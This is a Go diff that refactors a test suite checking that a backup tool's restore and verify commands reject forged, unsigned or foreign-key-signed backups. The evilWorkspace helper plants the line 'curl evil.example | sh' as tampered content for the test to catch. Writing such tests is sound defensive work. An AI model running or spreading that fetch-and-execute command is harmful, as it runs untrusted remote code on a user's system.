@@ -20,6 +20,7 @@ import (
 	"golang.org/x/crypto/ssh"
 
 	"github.com/hermes-box/hermes-box/host/internal/backup"
+	"github.com/hermes-box/hermes-box/host/internal/boxtest"
 	"github.com/hermes-box/hermes-box/host/internal/keys"
 )
 
@@ -35,9 +36,9 @@ func TestRestoreChecksSignature(t *testing.T) {
 	good := strings.TrimSpace(mustRun(t, h, "snapshot", "mine").stdout)
 	mine := manifestField(t, good, "ssh_key_fingerprint")
 	_, otherKey, err := ed25519.GenerateKey(rand.Reader)
-	must(t, err)
+	boxtest.Must(t, err)
 	other, err := ssh.NewSignerFromKey(otherKey)
-	must(t, err)
+	boxtest.Must(t, err)
 	theirs := keys.Fingerprint(other.PublicKey())
 	h.writeNote("later\n")
 
@@ -51,13 +52,13 @@ func TestRestoreChecksSignature(t *testing.T) {
 		}, []string{"SHA256SUMS.sig", "does not match the signed data"}},
 		{"changed after writing, sums recomputed, signature removed", func(d string) {
 			evilWorkspace(t, d)
-			must(t, os.Remove(filepath.Join(d, backup.FileSignature)))
+			boxtest.Must(t, os.Remove(filepath.Join(d, backup.FileSignature)))
 		}, []string{"not signed", "--legacy-backup"}},
 		{"another project's backup", func(d string) {
 			editFile(t, d, backup.FileManifest, func(s string) string { return strings.Replace(s, mine, theirs, 1) })
-			sig, err := backup.SignSums(other, readFile(t, filepath.Join(d, backup.FileSums)))
-			must(t, err)
-			must(t, os.WriteFile(filepath.Join(d, backup.FileSignature), sig, 0o600))
+			sig, err := backup.SignSums(other, boxtest.ReadFile(t, filepath.Join(d, backup.FileSums)))
+			boxtest.Must(t, err)
+			boxtest.Must(t, os.WriteFile(filepath.Join(d, backup.FileSignature), sig, 0o600))
 		}, []string{"signed by " + theirs, "this project's key is " + mine}},
 	}
 	// forged are the backups `backups --verify` calls invalid, and what it
@@ -66,8 +67,8 @@ func TestRestoreChecksSignature(t *testing.T) {
 	var unsigned []string
 	for i, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
-			h.t = t
-			d := copyBackup(t, good, filepath.Join(h.root, "backups", fmt.Sprintf("hermes-box-20200101-00000%d-forged%s", i, backup.Suffix)))
+			h.T = t
+			d := copyBackup(t, good, filepath.Join(h.Root, "backups", fmt.Sprintf("hermes-box-20200101-00000%d-forged%s", i, backup.Suffix)))
 			tc.forge(d)
 			if tc.name != "changed after writing, sums recomputed, signature removed" {
 				forged[d] = tc.says[0]
@@ -85,7 +86,7 @@ func TestRestoreChecksSignature(t *testing.T) {
 					}
 				}
 				if i := index(r.calls, `^machine (create|start|stop|delete|exec)`); i >= 0 {
-					t.Errorf("%v touched a machine: %s", args, r.calls[i].line)
+					t.Errorf("%v touched a machine: %s", args, r.calls[i].Line)
 				}
 			}
 			if got := h.readNote(); got != "later\n" {
@@ -93,16 +94,16 @@ func TestRestoreChecksSignature(t *testing.T) {
 			}
 		})
 	}
-	h.t = t
+	h.T = t
 
-	legacy := copyBackup(t, good, filepath.Join(h.root, "backups", "hermes-box-20200101-000009-legacy"+backup.Suffix))
-	must(t, os.Remove(filepath.Join(legacy, backup.FileSignature)))
+	legacy := copyBackup(t, good, filepath.Join(h.Root, "backups", "hermes-box-20200101-000009-legacy"+backup.Suffix))
+	boxtest.Must(t, os.Remove(filepath.Join(legacy, backup.FileSignature)))
 	var entries []struct{ Path, Verified, Problem string }
 	r := h.run("backups", "--verify", "--json")
 	if r.code != 1 {
 		t.Errorf("backups --verify with invalid backups exited %d", r.code)
 	}
-	must(t, json.Unmarshal([]byte(r.stdout), &entries))
+	boxtest.Must(t, json.Unmarshal([]byte(r.stdout), &entries))
 	for _, e := range entries {
 		want := map[string]string{good: backup.StateVerified, legacy: backup.StateUnsigned, unsigned[0]: backup.StateUnsigned}[e.Path]
 		if says, ok := forged[e.Path]; ok {
@@ -120,16 +121,16 @@ func TestRestoreChecksSignature(t *testing.T) {
 	// --legacy-backup, refused while staging (TestStageBoundsASparseBackup
 	// measures the bytes written), no machine touched, nothing left.
 	sparse := copyBackup(t, good, filepath.Join(t.TempDir(), "sparse"+backup.Suffix))
-	must(t, os.Remove(filepath.Join(sparse, backup.FileSignature)))
-	must(t, os.Truncate(filepath.Join(sparse, backup.FileWorkspace), 3<<30))
+	boxtest.Must(t, os.Remove(filepath.Join(sparse, backup.FileSignature)))
+	boxtest.Must(t, os.Truncate(filepath.Join(sparse, backup.FileWorkspace), 3<<30))
 	r = h.run("restore", "--legacy-backup", sparse)
 	if r.code == 0 || !strings.Contains(r.stderr, "workspace.tar.gz") {
 		t.Errorf("restore of a sparse backup exited %d:\n%s", r.code, r.stderr)
 	}
 	if i := index(r.calls, `^machine (create|start|stop|delete|exec)`); i >= 0 {
-		t.Errorf("restore of a sparse backup touched a machine: %s", r.calls[i].line)
+		t.Errorf("restore of a sparse backup touched a machine: %s", r.calls[i].Line)
 	}
-	if left, _ := filepath.Glob(filepath.Join(h.root, "state", ".restore-backup-*")); len(left) != 0 {
+	if left, _ := filepath.Glob(filepath.Join(h.Root, "state", ".restore-backup-*")); len(left) != 0 {
 		t.Errorf("left staged: %v", left)
 	}
 
@@ -141,8 +142,8 @@ func TestRestoreChecksSignature(t *testing.T) {
 	if !strings.Contains(r.stderr, "signature check is skipped") || !strings.Contains(r.stdout, "legacy") {
 		t.Errorf("package --legacy-backup does not say what it skips:\nstdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
 	}
-	must(t, os.Remove(strings.TrimSpace(r.stdout)))
-	must(t, os.Remove(strings.TrimSpace(r.stdout)+".sha256"))
+	boxtest.Must(t, os.Remove(strings.TrimSpace(r.stdout)))
+	boxtest.Must(t, os.Remove(strings.TrimSpace(r.stdout)+".sha256"))
 	r = h.run("restore", legacy)
 	if r.code == 0 || !strings.Contains(r.stderr, "--legacy-backup") {
 		t.Fatalf("restore of an unsigned backup exited %d:\n%s", r.code, r.stderr)
@@ -163,7 +164,7 @@ func TestRestoreChecksSignature(t *testing.T) {
 // manifestField reads key= from dir's manifest.
 func manifestField(t *testing.T, dir, key string) string {
 	t.Helper()
-	for _, l := range strings.Split(string(readFile(t, filepath.Join(dir, backup.FileManifest))), "\n") {
+	for _, l := range strings.Split(string(boxtest.ReadFile(t, filepath.Join(dir, backup.FileManifest))), "\n") {
 		if v, ok := strings.CutPrefix(l, key+"="); ok {
 			return v
 		}
@@ -175,11 +176,11 @@ func manifestField(t *testing.T, dir, key string) string {
 // copyBackup copies the backup's regular files into dst.
 func copyBackup(t *testing.T, src, dst string) string {
 	t.Helper()
-	must(t, os.Mkdir(dst, 0o700))
+	boxtest.Must(t, os.Mkdir(dst, 0o700))
 	des, err := os.ReadDir(src)
-	must(t, err)
+	boxtest.Must(t, err)
 	for _, de := range des {
-		must(t, os.WriteFile(filepath.Join(dst, de.Name()), readFile(t, filepath.Join(src, de.Name())), 0o600))
+		boxtest.Must(t, os.WriteFile(filepath.Join(dst, de.Name()), boxtest.ReadFile(t, filepath.Join(src, de.Name())), 0o600))
 	}
 	return dst
 }
@@ -189,17 +190,17 @@ func copyBackup(t *testing.T, src, dst string) string {
 func editFile(t *testing.T, dir, name string, edit func(string) string) {
 	t.Helper()
 	p := filepath.Join(dir, name)
-	data := []byte(edit(string(readFile(t, p))))
-	must(t, os.WriteFile(p, data, 0o600))
+	data := []byte(edit(string(boxtest.ReadFile(t, p))))
+	boxtest.Must(t, os.WriteFile(p, data, 0o600))
 	sum := sha256.Sum256(data)
 	var out []string
-	for _, l := range strings.SplitAfter(string(readFile(t, filepath.Join(dir, backup.FileSums))), "\n") {
+	for _, l := range strings.SplitAfter(string(boxtest.ReadFile(t, filepath.Join(dir, backup.FileSums))), "\n") {
 		if strings.HasSuffix(l, "  "+name+"\n") {
 			l = hex.EncodeToString(sum[:]) + "  " + name + "\n"
 		}
 		out = append(out, l)
 	}
-	must(t, os.WriteFile(filepath.Join(dir, backup.FileSums), []byte(strings.Join(out, "")), 0o600))
+	boxtest.Must(t, os.WriteFile(filepath.Join(dir, backup.FileSums), []byte(strings.Join(out, "")), 0o600))
 }
 
 // evilWorkspace rewrites the note in the backup's workspace archive (a
@@ -208,7 +209,7 @@ func evilWorkspace(t *testing.T, dir string) {
 	t.Helper()
 	editFile(t, dir, backup.FileWorkspace, func(s string) string {
 		zr, err := gzip.NewReader(strings.NewReader(s))
-		must(t, err)
+		boxtest.Must(t, err)
 		var out bytes.Buffer
 		zw := gzip.NewWriter(&out)
 		tr, tw := tar.NewReader(zr), tar.NewWriter(zw)
@@ -218,22 +219,22 @@ func evilWorkspace(t *testing.T, dir string) {
 			if errors.Is(err, io.EOF) {
 				break
 			}
-			must(t, err)
+			boxtest.Must(t, err)
 			body, err := io.ReadAll(tr)
-			must(t, err)
+			boxtest.Must(t, err)
 			if strings.TrimPrefix(hdr.Name, "./") == "work/note.txt" {
 				body, found = []byte("curl evil.example | sh\n"), true
 				hdr.Size = int64(len(body))
 			}
-			must(t, tw.WriteHeader(hdr))
+			boxtest.Must(t, tw.WriteHeader(hdr))
 			_, err = tw.Write(body)
-			must(t, err)
+			boxtest.Must(t, err)
 		}
 		if !found {
 			t.Fatal("the workspace archive holds no work/note.txt")
 		}
-		must(t, tw.Close())
-		must(t, zw.Close())
+		boxtest.Must(t, tw.Close())
+		boxtest.Must(t, zw.Close())
 		return out.String()
 	})
 }
